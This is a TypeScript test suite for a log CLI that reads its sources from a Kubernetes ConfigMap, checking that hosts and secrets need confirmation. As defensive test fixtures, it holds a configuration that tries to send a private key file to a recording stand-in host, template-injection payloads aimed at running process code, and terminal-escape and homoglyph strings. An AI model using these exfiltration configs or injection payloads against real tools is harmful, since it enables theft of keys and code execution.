import { readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { CliOptions } from "../fakes/cli.ts";
import { configMap, type LocalWorld, startLocalWorld } from "./local-world.ts";

let world: LocalWorld;
/** A host that must not be asked. */
let strange: { readonly url: string; readonly requests: string[]; close(): void };
beforeAll(async () => {
  world = await startLocalWorld();
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(JSON.stringify([request.url, request.headers]));
    response.writeHead(404).end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const { port } = server.address() as { port: number };
  strange = { url: `http://127.0.0.1:${port}`, requests, close: () => void server.close() };
});
afterAll(async () => {
  strange?.close();
  await world?.close();
});

let state: number = 0;
beforeEach(() => {
  state += 1;
  strange.requests.length = 0;
});
afterEach(() => world.cluster.remove(configMap("sources", {})));

const put = (text: string): void => void world.cluster.put(configMap("sources", { "taffrail.yaml": text }));
/** Reads the log of the newest failed run, with a state folder of the test's own. */
const logs = (args: readonly string[] = [], options: CliOptions = {}) =>
  world.run("anna", ["logs", "@failed", "--local", "--config-map", "guestbook/sources", ...args], {
    ...options,
    env: { XDG_STATE_HOME: join(world.folder, `state-${state}`), ...options.env },
  });
const confirmedFile = (): string => join(world.folder, `state-${state}`, "taffrail", "confirmed.json");

describe("a configuration from a ConfigMap", () => {
  it("is used once its hosts and secrets are confirmed, and then without a question", async () => {
    put(world.storeText());
    const first = await logs([], { answer: "y" });
    expect(first.code).toBe(0);
    const cluster = new URL(world.cluster.url).origin;
    expect(first.said.slice(0, 5)).toEqual([
      `The ConfigMap guestbook/sources in the cluster ${cluster} makes this computer contact:`,
      `  ${world.store}  (source archive)`,
      "    and uses for it: the environment variable STORE_TOKEN",
      "Ask these hosts for logs? [y/N] ",
      "Read what is listed of this computer and send it there? [y/N] ",
    ]);
    expect((statSync(confirmedFile()).mode & 0o777).toString(8)).toBe("600");
    expect(readFileSync(confirmedFile(), "utf8")).not.toContain(world.env.STORE_TOKEN);
    const second = await logs();
    expect([second.code, second.out]).toEqual([0, first.out]);
    expect(second.said.join()).not.toContain("ConfigMap");
  });

  it("is not used if the user says no, or cannot be asked", async () => {
    put(world.storeText());
    const no = await logs([], { answer: "n" });
    expect([no.code, no.out, no.said.at(-3)]).toEqual([2, "", "error: the ConfigMap guestbook/sources is not used"]);
    const nobody = await logs();
    expect([nobody.code, nobody.out]).toEqual([2, ""]);
    expect(nobody.said.slice(-3)).toEqual([
      "error: what the ConfigMap guestbook/sources reaches has not been confirmed",
      "  try     the same command on a terminal, which asks you; or --yes if you trust the list above",
      "          --config FILE, with sources of your own",
    ]);
    expect(() => statSync(confirmedFile())).toThrow("ENOENT");
  });

  it("is confirmed by flags without a terminal, the secrets by one of their own", async () => {
    put(world.storeText());
    const hosts = await logs(["--yes"]);
    expect([hosts.code, hosts.out]).toEqual([2, ""]);
    expect(hosts.said.at(-2)).toContain("--yes-secrets");
    expect(await logs(["--yes", "--yes-secrets"])).toMatchObject({ code: 0 });
    expect(await logs()).toMatchObject({ code: 0 });
  });

  it("cannot send a file of the user's anywhere without being confirmed, even to a known host", async () => {
    const key = join(world.folder, "id_rsa");
    writeFileSync(key, "private-key-of-anna\n");
    put(world.storeText());
    expect(await logs(["--yes", "--yes-secrets"])).toMatchObject({ code: 0 });
    const stealing = {
      name: "thief",
      http: { url: `${strange.url}/\${{ project }}`, headers: { "x-key": "${{ token }}" }, token: { file: key } },
    };
    put(JSON.stringify({ sources: [stealing] }));
    const refused = await logs(["--yes"]);
    expect([refused.code, refused.out, strange.requests]).toEqual([2, "", []]);
    expect(refused.said).toContain(`    and uses for it: the file ${key}`);
    // The same file, named as if it were relative, and one that does not exist: nobody learns which files there are.
    for (const file of [`.${key}`, "/nowhere/id_rsa"]) {
      put(JSON.stringify({ sources: [{ ...stealing, http: { ...stealing.http, token: { file } } }] }));
      const { code, said } = await logs(["--yes"]);
      expect([code, said.join()]).toEqual([2, expect.not.stringContaining("does not exist")]);
    }
    // A variable that was confirmed for one host is not confirmed for another.
    put(JSON.stringify({ sources: [{ ...stealing, http: { ...stealing.http, token: { env: "STORE_TOKEN" } } }] }));
    expect(await logs(["--yes"])).toMatchObject({ code: 2, out: "" });
    for (const tls of [{ caFile: key }, { certFile: key, keyFile: key }]) {
      put(JSON.stringify({ sources: [{ name: "thief", http: { url: "https://127.0.0.1:1/x", tls } }] }));
      expect(await logs(["--yes"])).toMatchObject({ code: 2, out: "" });
    }
    put(JSON.stringify({ sources: [{ name: "thief", s3: { bucket: "logs", key: "x", endpoint: strange.url } }] }));
    const bucket = await logs(["--yes"]);
    expect([bucket.code, strange.requests]).toEqual([2, []]);
    expect(bucket.said.join("\n")).toContain("signatures of your AWS credentials");
  });

  it("asks again when a host has changed, and marks what is known", async () => {
    put(world.storeText());
    expect(await logs(["--yes", "--yes-secrets"])).toMatchObject({ code: 0 });
    const other = { name: "other", http: { url: `${strange.url}/\${{ jobName }}` } };
    put(world.storeText().replace("sources:\n", `sources:\n  - ${JSON.stringify(other)}\n`));
    const asked = await logs();
    expect([asked.code, asked.out, strange.requests]).toEqual([2, "", []]);
    expect(asked.said).toEqual(
      expect.arrayContaining([
        `  ${strange.url}  (source other)`,
        `  ${world.store}  (source archive) (confirmed before)`,
      ]),
    );
    const agreed = await logs([], { answer: "y" });
    expect([agreed.code, strange.requests.length]).toEqual([0, 1]);
    // Once it is gone, it is no longer confirmed.
    put(world.storeText());
    expect(await logs()).toMatchObject({ code: 0 });
    put(JSON.stringify({ sources: [other] }));
    expect(await logs()).toMatchObject({ code: 2 });
  });

  it("is confirmed for one cluster and one ConfigMap only", async () => {
    put(world.storeText());
    expect(await logs(["--yes", "--yes-secrets"])).toMatchObject({ code: 0 });
    world.cluster.put(configMap("copy", { "taffrail.yaml": world.storeText() }));
    expect(await logs(["--config-map", "guestbook/copy"])).toMatchObject({ code: 2, out: "" });
    const text = readFileSync(confirmedFile(), "utf8");
    writeFileSync(confirmedFile(), text.replaceAll(world.cluster.url, "https://other.example"));
    expect(await logs()).toMatchObject({ code: 2, out: "" });
    writeFileSync(confirmedFile(), "rubbish");
    expect(await logs()).toMatchObject({ code: 2, out: "" });
  });

  it.each([
    ["code in a template", "${{ process.exit() }}"],
    ["a template that breaks out", "${{ `${globalThis.process.exit(7)}` }}"],
    ["a constructor", '${{ "".constructor.constructor("return process")().exit() }}'],
    ["a statement", "${{ } process.exit(); { }}"],
    ["Eta's own tags", "<% process.exit() %>/${{! process.exit() }}"],
    ["a host of a value", "https://${{ arg('host') }}/x"],
  ])("cannot run code or choose hosts by values: %s", async (_, template) => {
    const url = template.startsWith("https") ? template : `${strange.url}/${template}`;
    put(JSON.stringify({ sources: [{ name: "evil", http: { url } }] }));
    const { code, out, said } = await logs(["--yes", "--yes-secrets"]);
    expect([code, out, strange.requests]).toEqual([2, "", []]);
    expect(said).toContain("error: invalid configuration");
    expect(said.at(-1)).toMatch(/^ {2}ConfigMap guestbook\/sources:1:\d+: /);
  });

  it("shows hosts and titles so that a terminal does nothing, and other scripts as Punycode", async () => {
    const link = { title: "a\u001b[2Jb\u202e", url: "https://gооgle.example/x" };
    put(JSON.stringify({ sources: [{ name: "s", http: { url: "http://user:pw@127.0.0.1:1/x" } }], links: [link] }));
    const text = (await logs()).said.join("\n");
    expect(text).toContain("https://xn--ggle-55da.example");
    for (const hidden of ["\u001b", "\u202e", "pw"]) expect(text).not.toContain(hidden);
  });

  it("leaves out what is of a server: its address, TLS, identities and keys", async () => {
    const server = { listen: "0.0.0.0:1", basePath: "/x", tls: { certFile: "/gone", keyFile: "/gone" } };
    put(world.storeText({ ...server, cursors: { keys: [{ file: "/gone" }] }, identity: { audiences: ["a"] } }));
    expect(await logs(["--yes", "--yes-secrets"])).toMatchObject({ code: 0 });
  });

  it("reports faults with their positions, a missing ConfigMap, a missing key and a missing right", async () => {
    put("sorces: []");
    expect((await logs()).said).toEqual([
      "error: invalid configuration",
      '  ConfigMap guestbook/sources:1:1: unknown key "sorces". Did you mean "sources"?',
    ]);
    world.cluster.put(configMap("sources", { a: "x", b: "y" }));
    expect((await logs()).said).toEqual([
      "error: the ConfigMap guestbook/sources has no key taffrail.yaml",
      "  known: a, b",
    ]);
    expect((await logs(["--config-map", "guestbook/gone"])).said[0]).toBe(
      "error: there is no ConfigMap guestbook/gone",
    );
    expect((await logs(["--config-map", "gone"])).said[0]).toBe('error: "gone" is not NAMESPACE/NAME');
    const denied = await world.run("stageless", ["logs", "@failed", "--local", "--config-map", "guestbook/sources"]);
    expect([denied.code, denied.said[0]]).toEqual([4, expect.stringContaining('cannot get resource "configmaps"')]);
  });
});
